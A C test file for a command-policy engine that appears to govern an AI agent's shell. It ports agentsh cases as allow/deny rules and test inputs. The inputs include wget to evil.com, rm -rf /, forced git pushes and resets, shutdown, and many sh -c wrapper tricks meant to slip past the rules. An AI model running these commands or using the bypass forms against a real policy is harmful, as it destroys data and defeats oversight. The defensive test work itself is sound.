/*
 * Cases ported from the original agentsh's own tests.  Each names its
 * source as "canyonroad/agentsh FILE:LINE"; where ours decides differently
 * on purpose (CONTRACT.md "ours:"), .ours says why.
 */
#include "compat.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "pol_local.h"
#include "tpol.h"

#define D_ALLOW		POL_ALLOW
#define D_DENY		POL_DENY
#define D_APPROVE	POL_APPROVE
#define D_REDIRECT	POL_REDIRECT
#define D_AUDIT		POL_AUDIT

/* CheckCommand: depth 0, execs not intercepted, opaque enforce. */
#define CC(src, ours, cmd, want, rule, ...)				\
	{ src, ours, NULL, { cmd, __VA_ARGS__, NULL }, 0, 0,		\
	    POL_OPAQUE_ENFORCE, want, rule, NULL }
/* CheckExecve: a resolved path, argv, depth. */
#define CE(src, ours, path, depth, want, rule, ...)			\
	{ src, ours, path, { __VA_ARGS__, NULL }, depth, 1,		\
	    POL_OPAQUE_ENFORCE, want, rule, NULL }
/* Unwrapping: path, argv, the payload it must find. */
#define UW(src, ours, path, payload, want, rule, ...)			\
	{ src, ours, path, { __VA_ARGS__, NULL }, 0, 1,			\
	    POL_OPAQUE_ENFORCE, want, rule, payload }

#define GROUP(yaml, cases)	{ yaml, cases, nitems(cases) }

/* ------------------------------------------------------------------ */
/* engine_test.go: CheckExecve */

static const struct xcase execve_basic[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:124", NULL,
	    "/usr/bin/git", 0, D_ALLOW, "allow-git", "git", "status"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:323",
	    "ours: one default rule name for commands", "/usr/bin/wget", 0,
	    D_DENY, "default-deny-commands", "wget", "http://example.com"),
};
static const char execve_basic_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-git, commands: [git], decision: allow}\n";

static const struct xcase execve_direct[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:145", NULL,
	    "/usr/bin/git", 0, D_ALLOW, "allow-git-direct", "git", "status"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:150",
	    "ours: one default rule name for commands", "/usr/bin/git", 1,
	    D_DENY, "default-deny-commands", "git", "status"),
};
static const char execve_direct_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-git-direct, commands: [git], decision: allow,\n"
    "     context: {min_depth: 0, max_depth: 0}}\n";

static const struct xcase execve_nested[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:178", NULL,
	    "/usr/bin/curl", 0, D_ALLOW, "allow-all", "curl",
	    "http://example.com"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:183", NULL,
	    "/usr/bin/curl", 1, D_DENY, "block-curl-nested", "curl",
	    "http://example.com"),
};
static const char execve_nested_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: block-curl-nested, commands: [curl], decision: deny,\n"
    "     context: {min_depth: 1, max_depth: -1}}\n"
    "  - {name: allow-all, commands: [\"*\"], decision: allow}\n";

static const struct xcase execve_args[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:212", NULL,
	    "/bin/rm", 0, D_ALLOW, "allow-all", "rm", "file.txt"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:217", NULL,
	    "/bin/rm", 0, D_DENY, "block-rm-rf", "rm", "-rf", "/"),
};
static const char execve_args_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: block-rm-rf, commands: [rm], args_patterns: [\"-rf\", \"-fr\"],\n"
    "     decision: deny}\n"
    "  - {name: allow-all, commands: [\"*\"], decision: allow}\n";

static const struct xcase execve_fullpath[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:239", NULL,
	    "/bin/sh", 0, D_ALLOW, "allow-specific-sh", "sh"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:244",
	    "ours: one default rule name for commands", "/usr/bin/sh", 0,
	    D_DENY, "default-deny-commands", "sh"),
};
static const char execve_fullpath_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-specific-sh, commands: [/bin/sh], decision: allow}\n";

static const struct xcase execve_pathglob[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:266", NULL,
	    "/usr/bin/git", 0, D_ALLOW, "allow-usr-bin", "git"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:271", NULL,
	    "/bin/git", 0, D_DENY, NULL, "git"),
};
static const char execve_pathglob_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-usr-bin, commands: [\"/usr/bin/*\"], decision: allow}\n";

static const struct xcase execve_baseglob[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:292", NULL,
	    "/usr/bin/python3", 0, D_ALLOW, "allow-python-variants",
	    "python3"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:297", NULL,
	    "/usr/bin/python", 0, D_ALLOW, "allow-python-variants", "python"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:301", NULL,
	    "/usr/bin/ruby", 0, D_DENY, NULL, "ruby"),
};
static const char execve_baseglob_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-python-variants, commands: [\"python*\"],\n"
    "     decision: allow}\n";

static const struct xcase execve_postunwrap[] = {
	CE("canyonroad/agentsh internal/policy/engine_test.go:446", NULL,
	    "/usr/bin/wget", 0, D_DENY, "block-wget", "wget",
	    "http://evil.com"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:454", NULL,
	    "wget", 1, D_DENY, "block-wget", "wget", "http://evil.com"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:462",
	    "ours: the wrapper's payload is decided too; wget is denied",
	    "/usr/bin/env", 0, D_DENY, "block-wget", "env", "wget"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:470", NULL,
	    "/usr/bin/git", 0, D_ALLOW, "allow-git", "git", "status"),
	CE("canyonroad/agentsh internal/policy/engine_test.go:478",
	    "ours: one default rule name for commands", "/usr/bin/unknown",
	    0, D_DENY, "default-deny-commands", "unknown"),
};
static const char execve_postunwrap_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-git, commands: [git], decision: allow}\n"
    "  - {name: block-wget, commands: [wget], decision: deny}\n"
    "  - {name: allow-env, commands: [env], decision: allow}\n";

/* ------------------------------------------------------------------ */
/* command_test.go: CheckCommand */

static const struct xcase cmd_basename[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:32", NULL, "sh", D_DENY, "deny-shell", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:33", NULL, "bash", D_DENY, "deny-shell", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:34", NULL, "/bin/sh", D_DENY, "deny-shell", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:35", NULL, "/usr/bin/bash", D_DENY, "deny-shell", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:36", NULL, "./sh", D_DENY, "deny-shell", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:37", NULL, "path/to/sh", D_DENY, "deny-shell", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:38", NULL, "zsh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:39", NULL, "/bin/zsh", D_DENY, "default-deny-commands", NULL),
};
static const char cmd_basename_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shell, commands: [sh, bash], decision: deny}\n";

static const struct xcase cmd_fullpath[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:75", NULL, "/bin/sh", D_DENY, "deny-specific-sh", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:76", NULL, "/usr/bin/bash", D_DENY, "deny-specific-sh", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:78", NULL, "sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:79", NULL, "bash", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:80", NULL, "/usr/bin/sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:81", NULL, "/bin/bash", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:82", NULL, "./sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:83", NULL, "/tmp/sh", D_DENY, "default-deny-commands", NULL),
};
static const char cmd_fullpath_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-specific-sh, commands: [/bin/sh, /usr/bin/bash],\n"
    "     decision: deny}\n";

static const struct xcase cmd_pathglob[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:119", NULL, "/bin/sh", D_DENY, "deny-any-sh-in-bin", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:120", NULL, "/usr/bin/sh", D_DENY, "deny-any-sh-in-bin", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:121", NULL, "/sbin/sh", D_DENY, "deny-any-sh-in-bin", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:122", NULL, "sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:123", NULL, "/tmp/foo/sh", D_DENY, "default-deny-commands", NULL),
};
static const char cmd_pathglob_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-any-sh-in-bin, commands: [\"/*/sh\", \"/usr/*/sh\"],\n"
    "     decision: deny}\n";

static const struct xcase cmd_mixed[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:166", NULL, "/usr/bin/python3", D_ALLOW, "allow-system-python", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:168", NULL, "python", D_DENY, "deny-python-everywhere-else", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:169", NULL, "python3", D_DENY, "deny-python-everywhere-else", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:170", NULL, "/tmp/python3", D_DENY, "deny-python-everywhere-else", NULL),
};
static const char cmd_mixed_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-system-python, commands: [/usr/bin/python3],\n"
    "     decision: allow}\n"
    "  - {name: deny-python-everywhere-else, commands: [python, python3],\n"
    "     decision: deny}\n";

static const struct xcase cmd_bypass[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:212", NULL, "/bin/sh", D_DENY, "deny-shell-full-path", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:213", NULL, "/bin/bash", D_DENY, "deny-shell-full-path", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:215", NULL, "/tmp/sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:216", NULL, "/tmp/bash", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:217", NULL, "./sh", D_DENY, "default-deny-commands", NULL),
};
static const char cmd_bypass_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shell-full-path, commands: [/bin/sh, /bin/bash,\n"
    "     /usr/bin/sh, /usr/bin/bash], decision: deny}\n";

static const struct xcase cmd_case[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:255", NULL, "CMD.EXE", D_DENY, "deny-cmd", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:256", NULL, "cmd.exe", D_DENY, "deny-cmd", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:257", NULL, "Cmd.Exe", D_DENY, "deny-cmd", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:258",
	    "ours: full paths match case-sensitively (Linux file names)",
	    "/bin/sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:259", NULL, "/BIN/SH", D_DENY, "deny-cmd", NULL),
};
static const char cmd_case_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-cmd, commands: [CMD.EXE, /BIN/SH], decision: deny}\n";

static const struct xcase cmd_args[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:296", NULL, "rm", D_DENY, "deny-rm-rf", "-rf", "/"),
	CC("canyonroad/agentsh internal/policy/command_test.go:297", NULL, "rm", D_DENY, "deny-rm-rf", "-fr", "/"),
	CC("canyonroad/agentsh internal/policy/command_test.go:298", NULL, "rm", D_DENY, "deny-rm-rf", "--force", "-r", "/"),
	CC("canyonroad/agentsh internal/policy/command_test.go:299", NULL, "rm", D_DENY, "default-deny-commands", "file.txt"),
	CC("canyonroad/agentsh internal/policy/command_test.go:300", NULL, "/bin/rm", D_DENY, "deny-rm-rf", "-rf", "/"),
};
static const char cmd_args_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-rm-rf, commands: [rm],\n"
    "     args_patterns: [\"-rf\", \"-fr\", \"--force\"], decision: deny}\n";

static const struct xcase cmd_default[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:338", NULL, "ls", D_ALLOW, "allow-ls", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:339", NULL, "/bin/ls", D_ALLOW, "allow-ls", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:340", NULL, "cat", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:341", NULL, "/bin/cat", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:342", NULL, "rm", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:343", NULL, "python", D_DENY, "default-deny-commands", NULL),
};
static const char cmd_default_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: allow-ls, commands: [ls], decision: allow}\n";

static const struct xcase cmd_empty[] = {
	CC("canyonroad/agentsh internal/policy/command_test.go:371", NULL, "ls", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:371", NULL, "/bin/sh", D_DENY, "default-deny-commands", NULL),
	CC("canyonroad/agentsh internal/policy/command_test.go:371", NULL, "/usr/bin/python3", D_DENY, "default-deny-commands", NULL),
};
static const char cmd_empty_yaml[] =
    "version: 1\nname: t\ncommand_rules: []\n";

#define GIT(src, want, rule, ...) CC(src, NULL, "git", want, rule, __VA_ARGS__)
static const struct xcase cmd_git[] = {
	GIT("canyonroad/agentsh internal/policy/command_test.go:433", D_DENY, "no-direct-push-to-main", "push", "origin", "main"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:434", D_DENY, "no-direct-push-to-main", "push", "main"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:435", D_DENY, "no-direct-push-to-main", "push", "origin", "master"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:437", D_ALLOW, "allow-git", "push", "origin", "feature"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:439", D_ALLOW, "allow-git", "checkout", "main"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:442", D_DENY, "no-force-push", "push", "--force"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:443", D_DENY, "no-force-push", "push", "-f"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:445", D_DENY, "no-direct-push-to-main", "push", "origin", "main", "--force"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:448", D_DENY, "no-hard-reset", "reset", "--hard"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:449", D_DENY, "no-hard-reset", "reset", "--hard", "HEAD~1"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:451", D_ALLOW, "allow-git", "reset", "--soft"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:454", D_DENY, "no-git-clean", "clean", "-f"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:455", D_DENY, "no-git-clean", "clean", "-fd"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:456", D_DENY, "no-git-clean", "clean", "--force"),
	GIT("canyonroad/agentsh internal/policy/command_test.go:458", D_ALLOW, "allow-git", "status"),
};
static const char cmd_git_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: no-direct-push-to-main, commands: [git],\n"
    "     args_patterns: ['push.*(origin\\s+)?(main|master)'], decision: deny}\n"
    "  - {name: no-force-push, commands: [git],\n"
    "     args_patterns: ['push.*(--force|-f)'], decision: deny}\n"
    "  - {name: no-hard-reset, commands: [git],\n"
    "     args_patterns: ['reset.*(--hard)'], decision: deny}\n"
    "  - {name: no-git-clean, commands: [git],\n"
    "     args_patterns: ['clean.*(-f|--force)'], decision: deny}\n"
    "  - {name: allow-git, commands: [git], decision: allow}\n";

/* ------------------------------------------------------------------ */
/* command_shellc_test.go: sh -c */

#define SC(src, ours, sh, want, rule, ...)				\
	{ src, ours, NULL, { sh, __VA_ARGS__, NULL }, 0, 0,		\
	    POL_OPAQUE_ENFORCE, want, rule, NULL }
#define FOLLOWS "ours: the script is read, not given up on as opaque"

static const struct xcase shellc[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:36", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:37", NULL, "/bin/bash", D_DENY, "deny-shutdown", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:38", NULL, "/bin/bash", D_DENY, "deny-shutdown", "-euxc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:39", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-e", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:40", NULL, "/bin/bash", D_DENY, "deny-shutdown", "-e", "-u", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:41", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-l", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:42", NULL, "/bin/bash", D_DENY, "deny-shutdown", "-lc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:43", NULL, "/bin/bash", D_DENY, "deny-shutdown", "-ilxc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:44", "ours: -p is followed; the inner rule decides", "/bin/sh", D_DENY, "deny-shutdown", "-pc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:45", "ours: -o NAME is followed; the inner rule decides", "/bin/bash", D_DENY, "deny-shutdown", "-o", "errexit", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:46", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown now", "argv0_name"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:47", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown", "argv0_name", "p1", "p2"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:48", NULL, "/BIN/SH", D_DENY, "deny-shutdown", "-c", "shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:49", NULL, "/bin/dash", D_DENY, "deny-shutdown", "-c", "exec shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:50", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:51", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "nice shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:52", NULL, "/bin/bash", D_DENY, "deny-shutdown", "-c", "nohup exec shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:53", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "nice -n 19 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:54", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "nice -n -5 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:55", NULL, "sh", D_DENY, "deny-shutdown", "-c", "/sbin/shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:57", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "time shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:58", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "env shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:59", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "time nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:60", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "env nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:61", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "exec env shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:62", "ours: time's flags are parsed; the inner rule decides", "/bin/sh", D_DENY, "deny-shutdown", "-c", "time -p shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:63", "ours: env's flags are parsed; the inner rule decides", "/bin/sh", D_DENY, "deny-shutdown", "-c", "env -i shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:64", "ours: env's flags are parsed; the inner rule decides", "/bin/sh", D_DENY, "deny-shutdown", "-c", "env -u PATH shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:65", "ours: assignments are parsed; the inner rule decides", "/bin/sh", D_DENY, "deny-shutdown", "-c", "env VAR=val shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:67", NULL, "zsh", D_DENY, "deny-shutdown", "-c", "shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:68", NULL, "/usr/bin/zsh", D_DENY, "deny-shutdown", "-c", "nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:69", "ours: exec -a NAME is parsed; the inner rule decides", "zsh", D_DENY, "deny-shutdown", "-c", "exec -a foo shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:73", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "PATH=/tmp shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:74", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "FOO=bar shutdown now"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:75", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "PATH=/tmp nohup shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:76", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "FOO=1 BAR=2 nice -n 19 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:77", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "FOO= exec shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:79", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "bash -c shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:82", NULL, "/bin/sh", D_ALLOW, "allow-shells", "-c", "ls"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:83", NULL, "/bin/sh", D_ALLOW, "allow-shells", "-c", "echo hi"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:89", FOLLOWS, "/bin/sh", D_ALLOW, "allow-shells", "-c", "ls | wc"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:90", FOLLOWS, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown; true"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:91", FOLLOWS, "/bin/sh", D_DENY, "deny-shutdown", "-c", "foo && shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:92", FOLLOWS, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown || true"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:93", FOLLOWS, "/bin/sh", D_ALLOW, "allow-shells", "-c", "foo > out"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:94", FOLLOWS, "/bin/sh", D_ALLOW, "allow-shells", "-c", "foo < in"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:95", FOLLOWS, "/bin/sh", D_DENY, "deny-shutdown", "-c", "(shutdown)"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:96", "ours: a glob in an argument of a command no args_patterns look at changes nothing", "/bin/sh", D_ALLOW, "allow-shells", "-c", "ls *.go"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:101", NULL, "/bin/sh", D_ALLOW, "allow-shells", "-c", "echo \"hi there\""),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:105", "ours: $VAR in an argument no args_patterns look at changes nothing", "/bin/sh", D_ALLOW, "allow-shells", "-c", "echo \"$VAR\""),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:106", NULL, "/bin/sh", D_DENY, "shellc-opaque-script", "-c", "echo \"`date`\""),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:107", "ours: \\n inside double quotes is two literal characters", "/bin/sh", D_ALLOW, "allow-shells", "-c", "echo \"\\n\""),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:108", NULL, "/bin/sh", D_DENY, "shellc-opaque-script", "-c", "echo \"hi"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:112", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown \"now\""),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:113", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown 'now'"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:114", NULL, "/bin/sh", D_DENY, "deny-shutdown", "-c", "shutdown \"\""),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:115", "ours: $FOO in an argument no args_patterns look at changes nothing", "/bin/sh", D_ALLOW, "allow-shells", "-c", "echo $FOO"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:116", NULL, "/bin/sh", D_DENY, "shellc-opaque-script", "-c", "echo `date`"),
	{ "canyonroad/agentsh internal/policy/command_shellc_test.go:119", NULL, NULL, { "/bin/sh", NULL }, 0, 0, POL_OPAQUE_ENFORCE, D_ALLOW, "allow-shells", NULL },
	{ "canyonroad/agentsh internal/policy/command_shellc_test.go:120", NULL, NULL, { "bash", NULL }, 0, 0, POL_OPAQUE_ENFORCE, D_ALLOW, "allow-shells", NULL },
	{ "canyonroad/agentsh internal/policy/command_shellc_test.go:121", NULL, NULL, { "shutdown", NULL }, 0, 0, POL_OPAQUE_ENFORCE, D_DENY, "deny-shutdown", NULL },
};
static const char shellc_yaml[] =
    "version: 1\nname: t\ncommand_rules:\n"
    "  - {name: deny-shutdown, commands: [shutdown], decision: deny}\n"
    "  - {name: allow-shells, commands: [sh, bash, dash, zsh], decision: allow}\n"
    "  - {name: allow-reboot-absolute, commands: [/sbin/reboot], decision: allow}\n";

static const struct xcase shellc_bypass[] = {
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:527", "ours: exec -a NAME is parsed", "/bin/sh", D_DENY, "deny-shutdown", "-c", "exec -a foo shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:529", "ours: nohup --help runs nothing", "/bin/sh", D_ALLOW, "allow-shells", "-c", "nohup --help shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:530", "ours: an option nohup does not have is refused as such", "/bin/sh", D_DENY, "transparent-unparsable", "-c", "nohup -x shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:531", "ours: nice's flags are parsed", "/bin/sh", D_DENY, "deny-shutdown", "-c", "nice -n bogus shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:532", "ours: nice -N is parsed", "/bin/sh", D_DENY, "deny-shutdown", "-c", "nice -19 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:533", "ours: nice's long options are parsed", "/bin/sh", D_DENY, "deny-shutdown", "-c", "nice --adjustment=19 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:534", "ours: an option nohup does not have is refused as such", "/bin/sh", D_DENY, "transparent-unparsable", "-c", "nohup --preserve-status=1 shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:538", "ours: -p is followed", "/bin/bash", D_DENY, "deny-shutdown", "-pc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:539", "ours: -r is followed", "/bin/bash", D_DENY, "deny-shutdown", "-rc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:540", "ours: -a is followed", "/bin/sh", D_DENY, "deny-shutdown", "-ac", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:541", "ours: -n is followed", "/bin/bash", D_DENY, "deny-shutdown", "-nc", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:542", "ours: -o NAME is followed", "/bin/bash", D_DENY, "deny-shutdown", "-o", "errexit", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:543", "ours: +o NAME is followed", "/bin/bash", D_DENY, "deny-shutdown", "+o", "noclobber", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:544", "ours: an option form bash does not take is opaque", "/bin/bash", D_DENY, "shellc-opaque-script", "--rcfile=/tmp/rc", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:545", "ours: --norc is followed", "/bin/bash", D_DENY, "deny-shutdown", "--norc", "-c", "shutdown"),
	SC("canyonroad/agentsh internal/policy/command_shellc_test.go:546", "ours: an option form bash does not take is opaque", "/bin/bash", D_DENY, "shellc-opaque-script", "--init-file=/tmp/rc", "-c", "shutdown"),
